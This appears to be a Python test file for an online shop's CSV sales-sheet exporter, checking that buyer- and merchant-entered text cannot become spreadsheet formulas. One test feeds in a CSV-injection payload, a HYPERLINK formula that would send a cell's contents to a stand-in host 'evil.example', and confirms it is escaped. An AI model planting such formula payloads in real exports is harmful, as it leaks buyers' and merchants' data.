"""A merchant's sheet holds what buyers and merchants wrote as text, whatever a spreadsheet parts cells by."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pintuan.base.wire.money import Money
from pintuan.buying.groups.schemas import Payment
from pintuan.selling.sales.schemas import Sale
from pintuan.selling.sales.sheet import sheet_of
from pintuan.shop.offers.schemas import Offer

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
WRITTEN = st.text(st.sampled_from(f";,\t\r\n\"'\\ nx{SIGNS}"))
NOW = datetime(2030, 1, 1, tzinfo=UTC)


def sale(title: str, ship_to: dict[str, object]) -> Sale:
    """An order of a deal with this title, that goes to this address."""
    offer = Offer(
        title=title,
        product_title=title,
        variant_title=title,
        sku=title,
        options={},
        brand=None,
        gtin=None,
        description_sha256="",
        images_sha256="",
        since=None,
    )
    return Sale(
        id="ord_1",
        deal_id="deal_1",
        offer=offer,
        group_id=None,
        seat=None,
        status="captured",
        quantity=1,
        promised_price=Money(1999, "USD"),
        charged_unit_price=Money(1999, "USD"),
        charged_total=Money(1999, "USD"),
        refunded_total=Money(0, "USD"),
        refunds=[],
        payment=Payment("captured"),
        buyer_reference="byr_1",
        card_reference="crd_1",
        address_reference="adr_1",
        ship_to=ship_to,
        created_at=NOW,
        updated_at=NOW,
    )


async def written(one: Sale) -> str:
    return "".join([part async for part in sheet_of([one])])


@pytest.mark.anyio
@given(WRITTEN, WRITTEN, WRITTEN)
async def test_no_cell_of_a_sheet_is_a_formula_whatever_parts_cells(
    title: str, field: str, line: str
) -> None:
    address: dict[str, object] = {field: line, "lines": [line, {"name": field}], "number": -1}
    text = await written(sale(title, address))
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not [cell for cell in row if cell.lstrip(' \t\r\n"').startswith(tuple(SIGNS))]
    (order,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert json.loads(order["ship_to"]) == address


@pytest.mark.anyio
async def test_a_formula_of_a_buyer_is_the_same_json_in_other_letters() -> None:
    text = await written(
        sale("Kettle;=1+1", {"phone": "+33 6", "name": 'x;=HYPERLINK("http://evil.example/?"&A2);y'})
    )
    (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert row["deal_title"] == "Kettle;'=1+1"
    assert row["ship_to"].startswith('{"phone":"+33 6","name":"x;\\u003dHYPERLINK(')
